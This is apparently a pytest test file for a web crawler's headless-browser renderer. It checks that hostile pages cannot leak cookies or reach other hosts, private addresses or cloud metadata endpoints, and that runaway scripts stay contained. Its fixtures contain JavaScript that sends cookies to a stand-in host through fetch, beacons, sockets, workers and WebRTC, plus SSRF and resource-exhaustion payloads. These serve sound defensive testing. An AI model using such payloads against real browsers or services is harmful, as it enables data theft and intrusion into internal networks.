"""Pages in a real browser: what a hostile one may do, and what it costs."""

import asyncio
import os
import signal
import socket
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from browser import chromium
from crawl.sites import pages_options

from sanderling.clock import SystemClock
from sanderling.crawl.render import RenderRules, open_renderer
from sanderling.fetch.browser import BrowserRenderer, RenderError, find_browser
from sanderling.fetch.client import Client
from sanderling.fetch.messages import HttpResponse
from sanderling.fetch.options import HostOptions, RequestOptions
from sanderling.options import OptionError
from sanderling.outcome import Code, Outcome

pytestmark = pytest.mark.real
HTML = (("Content-Type", "text/html"),)
# Everything that a page could reach others by. OTHER is another site, RAW listens and speaks nothing, UDP neither.
HOSTILE = """<html><head><title>before</title>
<link rel=preconnect href=http://RAW><link rel=dns-prefetch href=http://RAW><link rel=prefetch href=http://OTHER/ahead>
<link rel=stylesheet href=http://OTHER/style.css><script src=http://OTHER/lib.js></script>
<script type=speculationrules>{"prefetch": [{"urls": ["http://RAW/spec"]}], "prerender": [{"urls": ["/spec"]}]}</script>
</head><body><img src=http://OTHER/pixel><iframe src=http://OTHER/frame></iframe><video src=http://OTHER/v></video>
<a id=down download=x href=http://OTHER/file>x</a><form id=f method=post action=http://OTHER/form></form>
<iframe id=i srcdoc="<script>new top.WebSocket('ws://RAW/inner')</script>"></iframe>
<script>
document.cookie = 'mine=script'
const tried = [], go = (name, what) => { try { Promise.resolve(what()).catch(e => 0) } catch (e) {} tried.push(name) }
const stolen = {credentials: 'include', headers: {'X-Stolen': document.cookie, Authorization: 'marked'}}
go('data', () => fetch('http://OTHER/data', {credentials: 'include'}))
go('custom header', () => fetch('http://OTHER/custom', stolen))
go('own', () => fetch('/own', {headers: {'X-Own': 'yes'}}).then(r => r.text()).then(t => document.title = t))
go('led away', () => fetch('/away'))
go('posted', () => fetch('/post', {method: 'POST', body: document.cookie}))
go('posted elsewhere', () => fetch('http://OTHER/post', {method: 'POST', mode: 'no-cors', body: 'x'}))
go('deleted', () => fetch('/delete', {method: 'DELETE'}))
go('beacon', () => navigator.sendBeacon('http://OTHER/beacon', 'x'))
go('keepalive', () => fetch('http://OTHER/alive', {method: 'POST', keepalive: true, mode: 'no-cors', body: 'x'}))
go('socket', () => new WebSocket('ws://RAW/socket'))
go('stream', () => new EventSource('http://OTHER/stream'))
go('raw', () => fetch('http://RAW/fetch', {method: 'POST', mode: 'no-cors', body: 'x'}))
go('worker', () => new Worker(URL.createObjectURL(new Blob([`
    new WebSocket('ws://RAW/worker'); fetch('http://OTHER/worker', {method: 'POST', mode: 'no-cors', body: 'x'})`]))))
go('shared worker', () => new SharedWorker(URL.createObjectURL(new Blob([`
    new WebSocket('ws://RAW/shared'); fetch('http://RAW/shared', {mode: 'no-cors'})`]))))
go('service worker', () => navigator.serviceWorker.register('/sw.js'))
go('call', () => { const c = new (window.RTCPeerConnection || document.getElementById('i').contentWindow
    .RTCPeerConnection)({iceServers: [{urls: 'stun:UDP'}]}); c.createDataChannel('x')
    c.createOffer().then(o => c.setLocalDescription(o)) })
go('transport', () => new WebTransport('https://UDP/x'))
go('window', () => window.open('http://OTHER/window'))
go('file', () => document.getElementById('down').click())
go('form', () => document.getElementById('f').submit())
</script></body></html>"""


class Listener:
    """Counts what reaches it: connections, or packets."""

    def __init__(self, host: str, kind: socket.SocketKind) -> None:
        self._socket = socket.socket(socket.AF_INET, kind)
        self._socket.bind((host, 0))
        if kind is socket.SOCK_STREAM:
            self._socket.listen()
        self._socket.setblocking(False)
        self.place = f"{host}:{self._socket.getsockname()[1]}"

    def reached(self) -> bool:
        try:
            self._socket.accept() if self._socket.type is socket.SOCK_STREAM else self._socket.recv(1)
        except BlockingIOError:
            return False
        finally:
            self._socket.close()
        return True


class Host:
    """Answers everything, and notes what came."""

    def __init__(self) -> None:
        self.came: dict[str, tuple[str, dict[str, str]]] = {}
        self.place = ""
        self.pages: dict[str, tuple[int, dict[str, str], str]] = {}

    async def __call__(self, request: web.BaseRequest) -> web.Response:
        self.came[request.path] = request.method, {name.lower(): value for name, value in request.headers.items()}
        status, headers, body = self.pages.get(request.path, (200, {"Access-Control-Allow-Origin": "*"}, "x = 1"))
        return web.Response(status=status, headers={"Set-Cookie": "theirs=1", **headers}, text=body)


@asynccontextmanager
async def hosts(*places: str) -> AsyncIterator[list[Host]]:
    runners, found = [], []
    for place in places:
        host = Host()
        runner = web.ServerRunner(web.Server(host))
        await runner.setup()
        await web.TCPSite(runner, place, 0).start()
        host.place = f"{place}:{runner.addresses[0][1]}"
        found.append(host)
        runners.append(runner)
    yield found
    for runner in runners:
        await runner.cleanup()


@asynccontextmanager
async def rendering(
    *, seconds: float = 5.0, pictures: bool = False, may: Callable[[str], bool] = lambda _: True, **options: Any
) -> AsyncIterator[BrowserRenderer]:
    given = {"private": True, "policy": "none", **options}
    async with Client(RequestOptions(**given)) as client:
        renderer = BrowserRenderer(
            client, SystemClock(), program=Path(chromium()), sandbox=False, pictures=pictures, may=may, seconds=seconds
        )
        async with renderer:
            yield renderer


def page(url: str, body: str) -> HttpResponse:
    return HttpResponse(Outcome(Code.OK, 200), url, 1, 200, HTML, body.encode())


async def test_nothing_leaves_a_hostile_page(tmp_path: Path) -> None:
    raw, udp = Listener("127.0.0.3", socket.SOCK_STREAM), Listener("127.0.0.3", socket.SOCK_DGRAM)
    async with hosts("127.0.0.1", "127.0.0.2") as (own, other):
        own.pages["/own"] = (200, {}, "after")
        own.pages["/away"] = (302, {"Location": f"http://{other.place}/led"}, "")
        tables = {each.place: HostOptions(headers={"X-Set": "marked"}) for each in (own, other)}
        async with rendering(hosts=tables) as renderer:
            for each in (own, other):
                cookie = (("Set-Cookie", "session=marked"),)
                renderer.client.cookies.learn(f"http://{each.place}/", cookie, SystemClock().wall())
            said = HOSTILE.replace("OTHER", other.place).replace("RAW", raw.place).replace("UDP", udp.place)
            made = await renderer.render(page(f"http://{own.place}/", said))
            snapshot = renderer.client.limiter.snapshot()

    assert {path: method for path, (method, _) in own.came.items()} == {"/own": "GET", "/away": "GET"}
    _, headers = own.came["/own"]
    assert (headers["cookie"], headers["x-set"], headers["x-own"]) == ("session=marked", "marked", "yes")
    # Scripts and what they read come from anywhere, as from any network of deliveries; nothing of ours goes there.
    assert {path: method for path, (method, _) in other.came.items()} == dict.fromkeys(
        ["/lib.js", "/data", "/custom", "/led"], "GET"
    )
    for _, headers in other.came.values():
        assert not headers.keys() & {"cookie", "authorization", "x-set", "x-stolen", "referer"}
        assert headers["user-agent"].startswith("sanderling/")
    assert not raw.reached()
    assert not udp.reached()
    assert b"<title>after</title>" in made.response.body
    assert made.requests == 6
    assert made.blocked > 15
    # What a page loads has leave of its host like all else.
    assert {each.host: each.requests for each in snapshot.hosts} == {own.place: 2, other.place: 4}


async def test_private_addresses_are_blocked_also_behind_a_name(monkeypatch: pytest.MonkeyPatch) -> None:
    listener = Listener("127.0.0.1", socket.SOCK_STREAM)
    port = listener.place.rpartition(":")[2]
    real = socket.getaddrinfo
    looked: list[str] = []

    def rebound(host: Any, *more: Any, **most: Any) -> Any:
        if str(host).endswith(".example"):
            looked.append(host)
            host = "127.0.0.1"
        return real(host, *more, **most)

    monkeypatch.setattr(socket, "getaddrinfo", rebound)
    places = [f"127.0.0.1:{port}", f"localhost:{port}", f"rebind.example:{port}", f"[::1]:{port}", f"0.0.0.0:{port}"]
    places += [f"shop.example:{port}", "169.254.169.254", f"2130706433:{port}", f"[::ffff:127.0.0.1]:{port}"]
    calls = "".join(
        f"go(() => fetch('http://{each}/latest'));go(() => new WebSocket('ws://{each}/'));"
        f"go(() => document.head.appendChild(document.createElement('script')).src = 'http://{each}/lib.js');"
        for each in places
    )
    body = f"<title>x</title><script>function go(f) {{ try {{ f().catch(e => 0) }} catch (e) {{}} }}; {calls}</script>"
    async with rendering(private=False) as renderer:
        made = await renderer.render(page(f"http://shop.example:{port}/", body))

    assert {"rebind.example", "shop.example"} <= set(looked)
    assert not listener.reached()
    assert made.blocked >= 2 * len(places)


ENDLESS = (
    "for (;;) {}",
    "const f = () => fetch('/x').then(f, f); f()",
    "setInterval(() => { for (let i = 0; i < 999; i++) navigator.sendBeacon('/' + i) }, 1)",
    "const a = []; for (;;) a.push(new Array(1e6).fill({}).map(x => ({...x})))",
    "setInterval(() => { window.open('/w'); alert(1); history.pushState({}, '', '/s') }, 1)",
)


async def test_a_page_without_end_costs_itself_only() -> None:
    said: dict[str, str] = {}
    async with hosts("127.0.0.1") as (own,), rendering(seconds=2.0) as renderer:

        async def render(body: str) -> None:
            try:
                made = await renderer.render(page(f"http://{own.place}/p", f"<body><script>{body}</script>"))
                assert made.requests <= 200
                said[body] = made.cut
            except RenderError as error:
                said[body] = str(error)

        async with asyncio.timeout(250), asyncio.TaskGroup() as group:
            for body in ENDLESS:
                group.create_task(render(body))
        after = await renderer.render(page(f"http://{own.place}/p", "<p id=a></p><script>a.append('well')</script>"))
        onward = await renderer.render(page(f"http://{own.place}/p", "<script>location = '/next?a#b'</script>"))

    assert b"well" in after.response.body
    assert onward.onward == f"http://{own.place}/next?a"
    assert len(said) == len(ENDLESS)
    assert "its scripts never end" in said[ENDLESS[0]]


def children(of: int) -> list[int]:
    found = []
    for path in Path("/proc").glob("[0-9]*/stat"):
        try:
            parent = int(path.read_text().rpartition(")")[2].split()[1])
        except OSError:
            continue
        if parent == of:
            found += [int(path.parent.name), *children(int(path.parent.name))]
    return found


@pytest.mark.skipif(sys.platform != "linux", reason="looks processes up in /proc")
@pytest.mark.parametrize("which", ["chromium", "node"])
async def test_a_browser_that_dies_takes_no_page_along(which: str) -> None:
    async with hosts("127.0.0.1") as (own,), rendering(seconds=3.0) as renderer:
        killed = False

        def kill(_: str) -> bool:
            nonlocal killed
            if not killed:
                killed = True
                for pid in children(os.getpid()):
                    if which in Path(f"/proc/{pid}/cmdline").read_text().partition("\0")[0]:
                        os.kill(pid, signal.SIGKILL)
                        break
            return True

        renderer.may = kill
        body = "<p id=a></p><script>fetch('/own').then(r => r.text()).then(t => a.append('well'))</script>"
        both = [page(f"http://{own.place}/{n}", body) for n in range(2)]
        made = await asyncio.gather(*map(renderer.render, both))

    assert all(b"well" in each.response.body for each in made)
    assert killed


def test_without_a_browser_one_sentence_says_so(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    with pytest.raises(OptionError, match="--browser: there is no program"):
        find_browser(tmp_path / "none")
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(OptionError, match="apt install chromium"):
        find_browser(None)
    with pytest.raises(OptionError, match="or auto"):
        RenderRules(["app"])
    monkeypatch.delitem(sys.modules, "sanderling.fetch.browser")
    monkeypatch.setitem(sys.modules, "playwright.async_api", None)
    with pytest.raises(OptionError, match=r"pip install 'sanderling\[render\]'"):
        open_renderer(pages_options(tmp_path), None, None, None)  # type: ignore[arg-type] # none is looked at


@pytest.mark.skipif(os.geteuid() != 0, reason="only root has no sandbox")
async def test_as_root_the_sandbox_is_not_switched_off_silently() -> None:
    async with Client(RequestOptions()) as client:
        renderer = BrowserRenderer(
            client, SystemClock(), program=Path(chromium()), sandbox=True, pictures=False, may=lambda _: True
        )
        with pytest.raises(OptionError, match="--no-sandbox"):
            await renderer.__aenter__()
